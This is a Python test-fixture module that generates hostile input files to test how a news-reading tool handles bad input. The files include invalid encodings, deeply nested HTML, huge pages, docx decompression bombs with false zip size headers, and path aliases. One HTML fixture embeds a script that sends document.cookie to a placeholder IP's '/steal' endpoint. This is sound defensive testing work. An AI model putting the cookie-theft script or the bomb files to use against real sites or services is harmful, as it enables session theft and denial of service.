"""A corpus of hostile inputs, generated into a folder at test time (never committed: some are huge).

Each case is a file a journalist might really drop on the window, with what
Parallax may answer: ``"error"`` (a one-line refusal), ``"ok"`` (an article), or
``"either"`` (both are honest answers, as long as neither is a traceback).

The good stories are invented events (an earthquake in the fictional town of
Verano, a football transfer): nothing here comes from the demo.
"""

from __future__ import annotations

import os
import random
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

QUAKE_A = """Earthquake shakes Verano before dawn

A magnitude 6.1 earthquake struck the coastal town of Verano before dawn on Sunday, the national seismic agency said.

At least 14 people were killed and more than 200 were injured, according to the regional health office.

Mayor Lucia Ferrand said rescue teams were searching three collapsed apartment blocks in the old quarter.

The agency said the quake was centred 12 kilometres offshore at a depth of 10 kilometres.

Schools in the province will stay closed until Wednesday while engineers inspect the buildings.
"""

QUAKE_B = """Deadly quake hits Verano

An earthquake of magnitude 6.3 hit Verano early on Sunday, killing at least 17 people, officials said.

Around 250 people were hurt, the regional health office said in a statement.

Mayor Lucía Ferrand told reporters that rescuers were digging through three apartment blocks that had collapsed.

The quake's epicentre lay about 12 kilometres off the coast, the seismic agency said.

Engineers are inspecting schools, which will remain shut until Wednesday.
"""

TRANSFER = """Striker completes record move to Porto Azul

Midfield playmaker Andre Kowalczyk has joined Porto Azul for a club record fee of 48 million euros.

The 24-year-old signed a five-year contract at the club's training ground on Thursday afternoon.

Coach Marta Ilves said the signing would strengthen the squad for the continental cup campaign.

Supporters gathered outside the stadium shop to buy the new number nine shirt.
"""

NOT_HTML_BODY = bytes(range(256)) * 64

_HOSTILE_HTML = """<!DOCTYPE html><html><head><title>Quake damage assessed | Coastal Post</title>
<script>document.write('<p>Injected by a script: this must never become article text.</p>'); alert(1)</script>
<style>p { color: red }</style></head><body>
<iframe src="http://203.0.113.9/tracker.html" width="1" height="1"></iframe>
<article><h1>Quake damage assessed</h1>
<img src="http://203.0.113.9/pixel.png" onerror="alert('x')" alt="">
<p>Engineers in Verano began assessing damage on Monday after Sunday's earthquake destroyed three apartment blocks.</p>
<p>The regional government said at least 400 homes would need repairs before families could move back in.</p>
<script>fetch('http://203.0.113.9/steal?c=' + document.cookie)</script>
<p>Officials said temporary shelters had been set up in two sports halls near the harbour for displaced residents.</p>
</article></body></html>"""

_NAV_ONLY = (
    "<!DOCTYPE html><html><head><title>Coastal Post</title></head><body><nav><ul>"
    + "".join(f'<li><a href="/section/{i}">Section {i}</a></li>' for i in range(150))
    + "</ul></nav><footer><a href='/about'>About us</a> <a href='/privacy'>Privacy</a></footer></body></html>"
)

_ALL_COMMENTS = (
    "<!DOCTYPE html><html><head><title>Comments | Coastal Post</title></head><body>"
    "<section class='comments'><h2>Comments (48)</h2>"
    + "".join(
        f"<div class='comment'><p class='author'>reader{i} on 3 May at 10:{i:02d} pm</p>"
        f"<p>I cannot believe the council let this happen again, number {i} in a row!</p><a href='#'>Reply</a></div>"
        for i in range(40)
    )
    + "<form><textarea>Leave a comment</textarea><button>Post comment</button></form></section></body></html>"
)

_ARABIC = """<!DOCTYPE html><html lang="ar" dir="rtl"><head><meta charset="utf-8">
<title>زلزال يضرب مدينة ساحلية</title></head>
<body><article><h1>زلزال يضرب مدينة ساحلية</h1>
<p>ضرب زلزال بقوة ست درجات مدينة ساحلية فجر يوم الأحد، وفق ما أعلنت الوكالة الوطنية لرصد الزلازل.</p>
<p>وقال مسؤولون في مكتب الصحة الإقليمي إن ما لا يقل عن ٣٠٠ شخص أصيبوا بجروح، ونقل كثيرون منهم إلى المستشفيات.</p>
<p>وأضاف رئيس البلدية أن فرق الإنقاذ تواصل البحث في ثلاثة مبان سكنية انهارت في الحي القديم من المدينة.</p>
</article></body></html>"""

_NUMBERS = """Quake energy figures published

The agency put the energy released at 1e308 joules in one draft table and 1e309 joules in another.

About ٣٠٠ families fled the coast overnight, and the ministry counted ۴۵ aftershocks by noon on Monday.

A spreadsheet error listed the damage at 9""" + "9" * 400 + """ euros before it was corrected.

Officials said 0.000000000000000000001 percent of the budget had been spent so far.
"""

_ONE_WORD = QUAKE_A.rstrip() + "\n\nYes.\n\nNo.\n\nAftershocks. Sirens. Silence.\n"


def _binary() -> bytes:
    rng = random.Random(5)
    return bytes(rng.randrange(256) for _ in range(20_000))


def _mixed_encoding() -> bytes:
    # A file pasted together from two sources: UTF-8 paragraphs and a Windows-1252 one.
    first, _, rest = QUAKE_A.partition("\n\n")
    return (
        first.encode("utf-8")
        + b"\n\n"
        + "Café owners near the harbour said the shaking lasted about 20 seconds, police said.\n\n".encode("cp1252")
        + rest.replace("Mayor", "Mayor São").encode("utf-8")
    )


def _invalid_utf8() -> bytes:
    # Bytes undefined in UTF-8 *and* in Windows-1252 (0x81, 0x8d, 0x8f, 0x90, 0x9d) sprinkled through prose.
    data = bytearray(QUAKE_A.encode("utf-8"))
    for i, bad in zip(range(200, len(data), 97), b"\x81\x8d\x8f\x90\x9d\xc3\xff" * 10, strict=False):
        data[i] = bad
    return bytes(data)


NESTED_PARAGRAPH = (
    "The earthquake struck the coastal town of Verano shortly before dawn on Sunday, the national seismic agency said."
)


def _nested(depth: int) -> str:
    # Far below the 256 levels libxml2 (under lxml and trafilatura) builds before it drops the rest silently.
    para = f"<p>{NESTED_PARAGRAPH}</p>"
    return "<!DOCTYPE html><html><body>" + "<div>" * depth + para + "</div>" * depth + "</body></html>"


def _project(version: int, cut: bool) -> bytes:
    # A project file dropped where an article was expected: damaged, or from a newer Parallax.
    import json

    doc = {"format": "parallax-project", "format_version": version, "app_version": "9.9", "strictness": 0.5,
           "sources": [{"source": "quake-post.txt", "text": QUAKE_A, "filename": "quake-post.txt"}]}
    data = json.dumps(doc).encode("utf-8")
    return data[: len(data) // 2] if cut else data


def _one_word_changed() -> str:
    return QUAKE_A.replace("three collapsed apartment blocks", "four collapsed apartment blocks")


@dataclass(frozen=True)
class Case:
    name: str  # the file name, suffix included
    expect: str  # "error", "ok" or "either"
    make: Callable[[], bytes | str]
    big: bool = False  # tens of MB: built only by tests marked slow


CASES: tuple[Case, ...] = (
    Case("empty.txt", "error", lambda: b""),
    Case("whitespace-only.txt", "error", lambda: b" \n\t\n   \r\n\xc2\xa0 \n"),
    Case("binary.txt", "error", _binary),
    Case("pdf-renamed.txt", "error", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n" * 300),
    Case("zip-renamed.html", "error", lambda: b"PK\x03\x04" + bytes(2000)),
    Case("invalid-utf8.txt", "ok", _invalid_utf8),
    Case("mixed-encoding.txt", "ok", _mixed_encoding),
    Case("utf16-no-bom.txt", "ok", lambda: QUAKE_B.encode("utf-16-le")),
    Case("scripts-iframes-images.html", "ok", lambda: _HOSTILE_HTML),
    Case("navigation-only.html", "error", lambda: _NAV_ONLY),
    Case("nested-5000.html", "ok", lambda: _nested(5000)),
    Case("nested-100000.html", "ok", lambda: _nested(100_000)),
    Case("arabic.html", "ok", lambda: _ARABIC),
    Case("all-comments.html", "error", lambda: _ALL_COMMENTS),
    Case("numbers.txt", "ok", lambda: _NUMBERS),
    Case("one-word-sentences.txt", "ok", lambda: _ONE_WORD),
    Case("only-one-word-sentences.txt", "either", lambda: "Aftershocks\n\nYes. No. Sirens. Silence. Rubble.\n"),
    Case("nul-in-the-middle.txt", "either", lambda: QUAKE_A.encode() + b"\x00" * 40 + QUAKE_B.encode()),
    Case("truncated.parallax", "either", lambda: _project(1, cut=True)),
    Case("from-the-future.parallax", "either", lambda: _project(99, cut=False)),
    Case("one-2mb-line.txt", "either", lambda: "The dam held and engineers said the water was falling " * 38_000),
    Case(
        "one-2mb-line-of-sentences.txt", "either", lambda: "The dam held. Engineers said the water fell. " * 46_000,
        big=True,
    ),
    Case("50mb.txt", "error", lambda: b"", big=True),  # written by ``write_case`` without holding 50 MB twice
    # Just under the 20 MB file limit: megabytes of scripts, images and comments under a short article...
    Case("saved-page-19mb.html", "ok", lambda: huge_page(19_500_000), big=True),
    # ...and an "article" that fills the whole page, refused in one line before any parser runs.
    Case("saved-page-huge-article-19mb.html", "error", lambda: huge_page(19_500_000, huge_article=True), big=True),
)


def case(name: str) -> Case:
    return next(c for c in CASES if c.name == name)


def _write_50mb(path: Path) -> None:
    paragraph = (QUAKE_A.split("\n\n")[1] + "\n\n").encode("utf-8")
    block = paragraph * (1_000_000 // len(paragraph) + 1)
    with path.open("wb") as fh:
        while fh.tell() < 50_000_000:
            fh.write(block)


def write_case(folder: Path, c: Case) -> Path:
    path = folder / c.name
    if c.name == "50mb.txt":
        _write_50mb(path)
        return path
    data = c.make()
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def write_stories(folder: Path) -> dict[str, Path]:
    """The good material: two reports of one quake, the same report twice, one word changed, an unrelated story."""
    texts = {
        "quake-post.txt": QUAKE_A,
        "quake-wire.txt": QUAKE_B,
        "quake-post-copy.txt": QUAKE_A,
        "quake-post-one-word.txt": _one_word_changed(),
        "transfer.txt": TRANSFER,
    }
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
        out[name] = folder / name
    return out


def snapshot(paths: list[Path]) -> dict[str, tuple[int, int, bytes]]:
    """Size, mtime and a sample of each input, to prove nothing the user gave was altered."""
    out = {}
    for p in paths:
        st = os.stat(p)
        with open(p, "rb") as fh:
            out[str(p)] = (st.st_size, st.st_mtime_ns, fh.read(4096))
    return out


# The command line, exactly as a user runs it, except that the sentence model is the deterministic
# fake (tests/fakes.py): hostile input must be answered before or without the model.
CLI_SHIM = """
import sys
sys.path[:0] = [sys.argv[1], sys.argv[2]]
import reader.embedding.embed
from fakes import FakeEmbedder
reader.embedding.embed.default_embedder = FakeEmbedder
reader.embedding.embed.load_model_embedder = FakeEmbedder
from reader.cli import main
sys.exit(main(sys.argv[3:]))
"""


# --------------------------------------------------------------------------- exported pages, read back

# Tags through which a page could run code or reach the network.
ACTIVE_TAGS = frozenset({"script", "img", "iframe", "object", "embed", "svg", "math"})


class Page(HTMLParser):
    """An exported page as a browser reads it: every tag with its attributes, and the text it shows."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._skip += tag in ("script", "style", "title")

    def handle_endtag(self, tag: str) -> None:
        self._skip -= tag in ("script", "style", "title") and self._skip > 0

    def handle_data(self, data: str) -> None:
        if not self._skip:
            self.text.append(data)

    @property
    def visible(self) -> str:
        return "".join(self.text)


def read_page(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def active_markup(page: Page) -> list[str]:
    """Whatever on ``page`` could run or load something: such tags, ``on…`` handlers, ``javascript:`` values."""
    found = [f"<{tag}>" for tag, _ in page.tags if tag in ACTIVE_TAGS]
    for tag, attrs in page.tags:
        found += [f"<{tag} {name}>" for name in attrs if name.startswith("on")]
        found += [f"<{tag} {name}={value}>" for name, value in attrs.items() if "javascript:" in (value or "").lower()]
    return found


# --------------------------------------------------------------------------- huge saved pages

FLOOD_ARTICLE = (
    "Floodwater reached the first floors of the riverside district of Marbeck on Tuesday night, the council said.",
    "More than 1,200 residents were moved to two school gyms after the river rose 3.4 metres in six hours.",
    "Fire chief Annika Dorn said crews had rescued 46 people from roofs and cars using inflatable boats.",
    "The weather service said another 60 millimetres of rain could fall on the catchment before Thursday.",
    "Rail services between Marbeck and the coast were suspended after a section of embankment was washed away.",
)
_FLOOD_TITLE = "River floods Marbeck as residents flee"


def _page_head() -> str:
    nav = "".join(f'<li><a href="/section/{i}">Section {i}</a></li>' for i in range(30))
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{_FLOOD_TITLE} | Valley Courier</title>"
        "<style>body{font-family:serif} .c{margin:0}</style></head><body>"
        f"<header><a href='/'>Valley Courier</a><nav><ul>{nav}</ul></nav></header>"
        f"<main><article><h1>{_FLOOD_TITLE}</h1><p class='byline'>By Staff Reporter</p>"
    )


def _junk_unit(i: int, rng: random.Random) -> str:
    """One of the things that bloat a saved page below its article: each about 2-40 kB."""
    kind = i % 5
    if kind == 0:  # an inline script carrying a state blob
        blob = ",".join(f'{{"id":{rng.randrange(10**9)},"headline":"Story {j}","tags":["a","b"]}}' for j in range(60))
        return f"<script>window.__STATE_{i}__ = [{blob}]; if (a < b && c > d) {{ track('x'); }}</script>"
    if kind == 1:  # a JSON data island
        data = ",".join(f'"k{j}":"{rng.randrange(10**12):x}"' for j in range(200))
        return f'<script type="application/json" id="data-{i}">{{{data}}}</script>'
    if kind == 2:  # an inline image as a data: URL
        raw = bytes(rng.randrange(256) for _ in range(15_000))
        import base64

        return f'<img alt="" src="data:image/png;base64,{base64.b64encode(raw).decode()}">'
    if kind == 3:  # a comment thread
        return "".join(
            f"<div class='comment'><p class='author'>reader{i}_{j} on 3 May at 10:{j:02d} pm</p>"
            f"<p>The council should have cleared the drains months ago, comment {j} of thread {i}.</p>"
            "<a href='#'>Reply</a></div>"
            for j in range(20)
        )
    links = "".join(f"<li><a href='/story/{i}/{j}'>Another story number {j} about something else</a></li>"
                    for j in range(40))
    return f"<aside class='related'><h3>Related</h3><ul>{links}</ul></aside><!-- ad slot {i} -->"


def huge_page(size: int, *, huge_article: bool = False, seed: int = 7) -> str:
    """A saved news page of about ``size`` characters.

    Ordinarily: header and navigation, a five-paragraph article, then
    megabytes of what real pages carry below it (inline scripts, JSON data
    islands, base64 images, comment threads, related links). With
    ``huge_article`` the article itself fills the page, paragraph after
    paragraph, with the junk in between.
    """
    rng = random.Random(seed)
    parts = [_page_head()]
    parts += [f"<p>{s}</p>" for s in FLOOD_ARTICLE]
    parts.append("</article>")
    total = sum(map(len, parts))
    i = 0
    while total < size:
        if huge_article:
            piece = "".join(f"<p>Update {i}: {s}</p>" for s in FLOOD_ARTICLE)
        else:
            piece = _junk_unit(i, rng)
        parts.append(piece)
        total += len(piece)
        i += 1
    parts.append("</main><footer><a href='/about'>About us</a></footer></body></html>")
    return "".join(parts)


# --------------------------------------------------------------------------- containers (issue 17, class 3)


def plain_docx(text: str) -> bytes:
    """A Word document of ``text``: its first paragraph as the title, the rest as paragraphs."""
    import io

    import docx

    doc = docx.Document()
    first, *rest = [p for p in text.split("\n\n") if p.strip()]
    doc.add_heading(first.strip(), level=1)
    for para in rest:
        doc.add_paragraph(para.strip())
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def _rezip(
    base: bytes, replace: dict[str, bytes | Callable[[object], None]], *, add: dict[str, bytes] | None = None,
    extra: int = 0,
) -> bytes:
    """``base`` (a zip) with members replaced or added; a callable value streams the member itself."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            value = replace.get(info.filename, src.read(info.filename))
            if callable(value):
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    value(fh)
            else:
                dst.writestr(info.filename, value)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
        for i in range(extra):
            dst.writestr(f"parallax-extra/item{i}.xml", b"<a/>")
    return out.getvalue()


def _lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """Patch ``member``'s declared unpacked size in both zip headers (local and central) to ``size``."""
    buf = bytearray(data)
    name = member.encode()
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = buf.find(signature)
        while pos >= 0:
            name_len_at = 26 if signature == b"PK\x03\x04" else 28
            name_len = int.from_bytes(buf[pos + name_len_at : pos + name_len_at + 2], "little")
            name_at = pos + (30 if signature == b"PK\x03\x04" else 46)
            if bytes(buf[name_at : name_at + name_len]) == name:
                buf[pos + at : pos + at + 4] = size.to_bytes(4, "little")
            pos = buf.find(signature, pos + 4)
    return bytes(buf)


def docx_bomb(variant: str, unpacked: int = 200_000_000) -> bytes:
    """A .docx that is small on disk and huge inside, four ways.

    ``honest-sizes``: the document's XML unpacks to ``unpacked`` bytes and the zip says so;
    ``lying-sizes``: the same, but both headers claim 10 kB; ``high-ratio``: a 6 MB part that packs
    to a few kB (under the total cap, far over any real ratio); ``many-members``: thousands of parts.
    """
    base = plain_docx(QUAKE_A)
    para = b"<w:p><w:r><w:t>" + b"aftershock " * 200 + b"</w:t></w:r></w:p>"

    def huge(fh: object) -> None:
        write = fh.write  # type: ignore[attr-defined]
        write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
              b'wordprocessingml/2006/main"><w:body>')
        block = para * (1_000_000 // len(para))
        for _ in range(unpacked // len(block)):
            write(block)
        write(b"</w:body></w:document>")

    if variant in ("honest-sizes", "lying-sizes"):
        data = _rezip(base, {"word/document.xml": huge})
        return _lie_about_size(data, "word/document.xml", 10_000) if variant == "lying-sizes" else data
    if variant == "high-ratio":
        return _rezip(base, {}, add={"docProps/custom.xml": b"\x00" * 6_000_000})
    if variant == "many-members":
        return _rezip(base, {}, extra=6_000)
    raise ValueError(variant)


def nested_eml(depth: int, text: str) -> bytes:
    """An e-mail whose text part sits ``depth`` multiparts deep (forwarded, forwarded, forwarded...)."""
    head = "From: Desk <desk@example.org>\nSubject: Quake\nMIME-Version: 1.0\n"
    opening = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\n\n--b{i}\n' for i in range(depth))
    closing = "".join(f"\n--b{i}--\n" for i in reversed(range(depth)))
    return (head + opening + "Content-Type: text/plain; charset=utf-8\n\n" + text + closing).encode("utf-8")


# --------------------------------------------------------------------------- one file, many names (issue 17, class 1)


def path_aliases(target: Path, *, home: Path, cwd: Path, scratch: Path) -> dict[str, str]:
    """Ways of writing ``target``'s name that all lead to it, as a person might type them as an output.

    The probe found three (a quoted ``~``, a trailing space the loader strips, a derived file name);
    these are the family. Links are made in ``scratch``; ``home`` is what ``~`` stands for (pass it
    as HOME to a child process); relative names are relative to ``cwd``.
    """
    import os

    aliases = {
        "absolute": str(target),
        "relative": os.path.relpath(target, cwd),
        "dot-slash": "./" + os.path.relpath(target, cwd),
        "trailing-space": f"{target} ",
        "leading-space": f" {target}",
        "trailing-tab": f"{target}\t",
        "parent-hop": str(target.parent / ".." / target.parent.name / target.name),
        "double-slash": f"{target.parent}//{target.name}",
        "tilde": "~/" + os.path.relpath(target, home),
    }
    link, folder_link, hard = scratch / "link.txt", scratch / "folder-link", scratch / "hard.txt"
    if not link.exists():
        link.symlink_to(target)
        folder_link.symlink_to(target.parent, target_is_directory=True)
        os.link(target, hard)
    aliases["symlink"] = str(link)
    aliases["symlinked-folder"] = str(folder_link / target.name)
    aliases["hard-link"] = str(hard)
    return aliases
